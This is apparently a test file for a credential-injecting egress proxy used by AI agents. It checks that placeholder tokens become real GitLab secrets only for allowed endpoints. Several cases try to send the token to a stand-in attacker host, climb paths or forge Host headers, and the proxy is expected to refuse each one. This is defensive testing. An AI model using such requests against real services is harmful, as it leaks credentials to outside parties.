/** Unmodified clients behind the proxy, a real TLS upstream in front of it. */
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer, type IncomingMessage, type Server } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import { type AddressInfo, connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execa, execaSync } from 'execa';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { agentEnvironment } from '../../../../src/client/placeholder-environment.ts';
import { PlaceholderResolver } from '../../../../src/client/placeholder-resolver.ts';
import { ThrowAwayAuthority } from '../../../../src/egress/authority.ts';
import { snapshot } from '../../../../test/client/placeholder-fixtures.ts';
import { ARTIFACTS, newSecret } from '../../../../test/support/secrets.ts';
import { MAX_BODY_BYTES, type ProxyRecord } from '../../proxy/forward.ts';
import { type EgressProxy, startProxy } from '../../proxy/proxy.ts';

interface Seen {
  readonly url: string;
  readonly headers: IncomingMessage['headers'];
  readonly body: string;
}

const hasCurl = !execaSync('curl', ['--version'], { reject: false }).failed;
if (!hasCurl && process.env.CI === 'true')
  throw new Error('curl is not here: these tests need an unmodified client');
if (!hasCurl) console.warn('curl is not here: only Node is tried as an unmodified client');

const GITLAB = 'gitlab.example.com';
const secret = newSecret();
const resolver = new PlaceholderResolver();
const records: ProxyRecord[] = [];
const seen: Seen[] = [];
const folder = mkdtempSync(join(tmpdir(), 'demo-proxy-'));
const caFile = join(folder, 'ca.pem');
const clock = { now: Date.now() };
let https: Server;
let http: Server;
let proxy: EgressProxy;
let token: string;

function listen(server: Server): Promise<number> {
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port));
  });
}

beforeAll(async () => {
  const agentAuthority = await ThrowAwayAuthority.create('authority that the agent trusts', Date.now());
  const upstreamAuthority = await ThrowAwayAuthority.create('authority of the upstream', Date.now());
  writeFileSync(caFile, agentAuthority.certificate);
  const record = (request: IncomingMessage, reply: (body: string) => void) => {
    let body = '';
    request.on('data', (chunk: Buffer) => {
      body += chunk.toString();
    });
    request.on('end', () => {
      seen.push({ url: request.url ?? '', headers: request.headers, body });
      reply('arrived\n');
    });
  };
  const { key, certificate } = await upstreamAuthority.issue(GITLAB);
  https = createHttpsServer({ key, cert: certificate }, (request, response) =>
    record(request, (body) => response.writeHead(201, { 'set-cookie': ['a=1', 'b=2'] }).end(body)),
  );
  http = createHttpServer((request, response) => record(request, (body) => response.end(body)));
  const httpsPort = await listen(https);
  const httpPort = await listen(http);
  proxy = await startProxy({
    authority: agentAuthority,
    port: 0,
    resolver,
    upstreamCa: upstreamAuthority.certificate,
    route: ({ host, port }) => ({
      host: '127.0.0.1',
      port: host === 'closed.example.com' ? 1 : port === 80 ? httpPort : httpsPort,
    }),
    rewriteBody: ({ host, port }) => host === GITLAB && port === 443,
    now: () => clock.now,
    onRequest: (entry) => records.push(entry),
  });
});

beforeEach(() => {
  records.length = 0;
  seen.length = 0;
  clock.now = Date.now();
  const environment = snapshot([
    {
      key: 'GITLAB_TOKEN',
      value: secret,
      endpoints: [
        { host: GITLAB, port: 443, path: '/api/**' },
        { host: GITLAB, port: 80, path: '' },
        // Bound, and yet its upstream shows another name in its certificate.
        { host: 'other.example.com', port: 443, path: '' },
        { host: 'closed.example.com', port: 443, path: '' },
      ],
      expiresAtMs: clock.now + 60_000,
    },
  ]);
  resolver.update(environment);
  token = agentEnvironment(environment).GITLAB_TOKEN ?? '';
});

afterAll(async () => {
  await proxy.close();
  await proxy.close();
  for (const server of [https, http]) {
    server.closeAllConnections();
    server.close();
  }
  rmSync(folder, { recursive: true });
});

/** Runs curl as an agent would, and keeps all that it says for the leak search. */
async function curl(...args: string[]): Promise<{ status: number; body: string }> {
  const result = await execa(
    'curl',
    [
      '--silent',
      '--show-error',
      '--verbose',
      '--max-time',
      '20',
      '--proxy',
      proxy.url,
      '--cacert',
      caFile,
      '--noproxy',
      '',
      '--write-out',
      '\n%{http_code}',
      ...args,
    ],
    { reject: false, env: { no_proxy: '', NO_PROXY: '' } },
  );
  writeFileSync(join(ARTIFACTS, `curl-${randomUUID()}.log`), `${result.stdout}\n${result.stderr}`);
  const lines = result.stdout.split('\n');
  return { status: Number(lines.at(-1)), body: lines.slice(0, -1).join('\n').trim() };
}

describe.skipIf(!hasCurl)('an unmodified curl over HTTPS', () => {
  it('has its header filled in', async () => {
    const url = `https://${GITLAB}/api/v4/user`;
    expect(await curl(url, '-H', `PRIVATE-TOKEN: ${token}`, '-H', `Authorization: Bearer ${token}`)).toEqual({
      status: 201,
      body: 'arrived',
    });
    expect(seen[0]?.headers['private-token']).toBe(secret);
    expect(seen[0]?.headers.authorization).toBe(`Bearer ${secret}`);
    expect(seen[0]?.headers.host).toBe(GITLAB);
    expect(records).toEqual([
      {
        method: 'GET',
        host: GITLAB,
        port: 443,
        target: '/api/v4/user',
        status: 201,
        keys: ['GITLAB_TOKEN'],
        error: undefined,
        refusal: undefined,
      },
    ]);
  });

  it('has its Basic credentials filled in', async () => {
    await curl(`https://${GITLAB}/api/v4/user`, '--user', `oauth2:${token}`);
    const expected = Buffer.from(`oauth2:${secret}`).toString('base64');
    expect(seen[0]?.headers.authorization).toBe(`Basic ${expected}`);
  });

  it('has its query and its path filled in', async () => {
    await curl(
      '--get',
      '--data-urlencode',
      `private_token=${token}`,
      '-d',
      'page=2',
      `https://${GITLAB}/api/v4/${token}/x`,
    );
    expect(seen[0]?.url).toBe(`/api/v4/${secret}/x?private_token=${secret}&page=2`);
    expect(records[0]?.target).toBe('/api/v4/[CREDENTIAL]/x?[QUERY]');
  });

  it('has an opted-in body filled in, with its new length', async () => {
    const body = JSON.stringify({ token, text: 'ü' });
    await curl(`https://${GITLAB}/api/v4/x`, '-H', 'Content-Type: application/json', '--data-binary', body);
    expect(JSON.parse(seen[0]?.body ?? '')).toEqual({ token: secret, text: 'ü' });
  });

  it('without placeholders is passed through, both ways', async () => {
    expect(
      await curl(
        '--path-as-is',
        `https://${GITLAB}/a/../b%2f?x=%zz`,
        '-H',
        'X-Plain: 1',
        '-H',
        'Connection: X-Hop',
        '-H',
        'X-Hop: 1',
      ),
    ).toMatchObject({ status: 201 });
    expect(seen[0]?.url).toBe('/a/../b%2f?x=%zz');
    expect(seen[0]?.headers['x-plain']).toBe('1');
    expect(seen[0]?.headers['x-hop']).toBeUndefined();
  });

  it.each<readonly [string, (token: string) => string[]]>([
    ['another host', (t) => ['https://evil.example.net/api/v4', '-H', `PRIVATE-TOKEN: ${t}`]],
    ['another port', (t) => [`https://${GITLAB}:8443/api/v4`, '-H', `PRIVATE-TOKEN: ${t}`]],
    ['another path', (t) => [`https://${GITLAB}/admin`, '-u', `u:${t}`]],
    ['a path that climbs', (t) => ['--path-as-is', `https://${GITLAB}/api/../admin?t=${t}`]],
    ['a body to another host', (t) => ['https://evil.example.net/', '-H', `A: ${t}`, '-d', 'x=1']],
  ])('to %s is refused', async (_, args) => {
    expect(await curl(...args(token))).toEqual({
      status: 403,
      body: '{"error":"credential_endpoint_mismatch"}',
    });
    expect(seen).toEqual([]);
    expect(records).toMatchObject([{ status: 403, keys: [], refusal: { key: 'GITLAB_TOKEN' } }]);
  });

  it.each<readonly [string, (token: string) => string[]]>([
    ['a name that nobody serves', () => ['-H', 'A: openshell:resolve:env:v7_NOBODY']],
    ['the canonical form', () => ['-H', 'A: openshell:resolve:env:GITLAB_TOKEN']],
    ['an old revision', () => ['-H', 'A: openshell:resolve:env:v6_GITLAB_TOKEN']],
    ['a hidden marker', (t) => ['-H', `A: ${encodeURIComponent(t)}`]],
    ['a cookie', (t) => ['-b', `session=${t}`]],
  ])('with %s is refused', async (_, args) => {
    expect(await curl(`https://${GITLAB}/api/v4`, ...args(token))).toEqual({
      status: 500,
      body: '{"error":"credential_unavailable"}',
    });
    expect(seen).toEqual([]);
  });

  it('fails closed when the credential is withdrawn, and when it ends', async () => {
    const send = () => curl(`https://${GITLAB}/api/v4`, '-H', `PRIVATE-TOKEN: ${token}`);
    expect((await send()).status).toBe(201);
    clock.now += 60_000;
    expect((await send()).status).toBe(500);
    resolver.update(undefined);
    expect(records.map(({ refusal }) => refusal?.detail)).toEqual([undefined, 'expired']);
    expect((await send()).status).toBe(500);
  });

  it('takes the new value after a rotation, with the placeholder it had', async () => {
    const next = newSecret();
    resolver.update(
      snapshot(
        [{ key: 'GITLAB_TOKEN', value: next, endpoints: [{ host: GITLAB, port: 443, path: '' }] }],
        8n,
      ),
    );
    await curl(`https://${GITLAB}/api/v4`, '-H', `PRIVATE-TOKEN: ${token}`);
    expect(seen[0]?.headers['private-token']).toBe(next);
  });

  it('is not led to another host by its Host header', async () => {
    const answer = await curl(
      `https://${GITLAB}/api/v4`,
      '-H',
      `A: ${token}`,
      '-H',
      'Host: evil.example.net',
    );
    expect(answer).toEqual({ status: 400, body: '{"error":"host_mismatch"}' });
    expect(seen).toEqual([]);
  });

  it.each(['other.example.com', 'closed.example.com'])(
    'sends nothing to an upstream that is not %s',
    async (host) => {
      const answer = await curl(`https://${host}/`, '-H', `A: ${token}`);
      expect(answer).toEqual({ status: 502, body: '{"error":"upstream_unreachable"}' });
      expect(seen).toEqual([]);
    },
  );

  it('with a body that is too large is refused', async () => {
    const file = join(folder, 'large');
    writeFileSync(file, Buffer.alloc(MAX_BODY_BYTES + 1, 97));
    const answer = await curl(`https://${GITLAB}/api/v4`, '-H', 'Expect:', '--data-binary', `@${file}`);
    expect(answer).toEqual({ status: 413, body: '{"error":"body_too_large"}' });
    expect(seen).toEqual([]);
  });
});

describe('plain HTTP', () => {
  it.skipIf(!hasCurl)('is filled in where port 80 is bound', async () => {
    expect(await curl(`http://${GITLAB}/x?t=${token}`, '-H', 'Host: evil.example.net')).toMatchObject({
      status: 200,
    });
    expect(seen[0]?.url).toBe(`/x?t=${secret}`);
    expect(seen[0]?.headers.host).toBe(GITLAB);
  });

  it.skipIf(!hasCurl).each(['http://evil.example.net/', `http://${GITLAB}:443/api/v4`])(
    'to %s carries no value',
    async (url) => {
      expect(await curl(url, '-H', `A: ${token}`)).toMatchObject({ status: 403 });
      expect(seen).toEqual([]);
    },
  );

  it
    .skipIf(!hasCurl)
    .each([[[]], [['-H', 'Transfer-Encoding: chunked']], [['-H', 'Content-Encoding: aws-chunked']]])(
    'streams a body that is not opted in, however large and whatever it holds: %j',
    async (args) => {
      const text = `docs say ${token} or openshell:resolve:env:KEY\n`;
      const file = join(folder, 'upload');
      writeFileSync(file, text.repeat((2 * MAX_BODY_BYTES) / text.length));
      const answer = await curl(
        `http://${GITLAB}/x`,
        '-H',
        `A: ${token}`,
        '--data-binary',
        `@${file}`,
        ...args,
      );
      expect(answer).toMatchObject({ status: 200 });
      expect(seen[0]?.headers.a).toBe(secret);
      expect(seen[0]?.body === readFileSync(file, 'utf8')).toBe(true);
    },
  );

  it.skipIf(!hasCurl)('without a body stays without one', async () => {
    expect(await curl('-X', 'DELETE', `http://${GITLAB}/x`, '-H', `A: ${token}`)).toMatchObject({
      status: 200,
    });
    expect(seen[0]).toMatchObject({ body: '', headers: { a: secret } });
    expect(seen[0]?.headers['transfer-encoding']).toBeUndefined();
  });

  it.skipIf(!hasCurl)('answers a large body that goes nowhere', async () => {
    const file = join(folder, 'lost');
    writeFileSync(file, Buffer.alloc(MAX_BODY_BYTES, 'a'));
    const answer = await curl('http://closed.example.com:80/', '-H', 'Expect:', '--data-binary', `@${file}`);
    expect(answer.status).toBe(502);
  });

  it.each([
    'GET / HTTP/1.1\r\nHost: gitlab.example.com\r\n\r\n',
    'GET http://user:pass@gitlab.example.com/ HTTP/1.1\r\nHost: x\r\n\r\n',
    'GET ftp://gitlab.example.com/ HTTP/1.1\r\nHost: x\r\n\r\n',
    'CONNECT gitlab.example.com:0 HTTP/1.1\r\nHost: x\r\n\r\n',
    'CONNECT [::1]:443 HTTP/1.1\r\nHost: x\r\n\r\n',
  ])('%j is a bad request', async (text) => {
    const answer = await new Promise<string>((resolve) => {
      const socket = connect(Number(new URL(proxy.url).port), '127.0.0.1', () => socket.write(text));
      socket.once('data', (chunk) => {
        resolve(chunk.toString());
        socket.destroy();
      });
    });
    expect(answer).toMatch(/^HTTP\/1\.1 400 /);
    expect(seen).toEqual([]);
  });
});

describe('an unmodified Node', () => {
  it('has its header filled in', async () => {
    const program = `const answer = await fetch('https://${GITLAB}/api/v4/user', {headers: {'private-token': process.env.GITLAB_TOKEN}}); console.log(answer.status, await answer.text());`;
    const result = await execa(process.execPath, ['--input-type=module', '-e', program], {
      env: {
        NODE_USE_ENV_PROXY: '1',
        HTTPS_PROXY: proxy.url,
        NO_PROXY: '',
        no_proxy: '',
        NODE_EXTRA_CA_CERTS: caFile,
        GITLAB_TOKEN: token,
      },
    });
    writeFileSync(join(ARTIFACTS, `node-${randomUUID()}.log`), `${result.stdout}\n${result.stderr}`);
    expect(result.stdout).toBe('201 arrived\n');
    expect(seen[0]?.headers['private-token']).toBe(secret);
  });
});
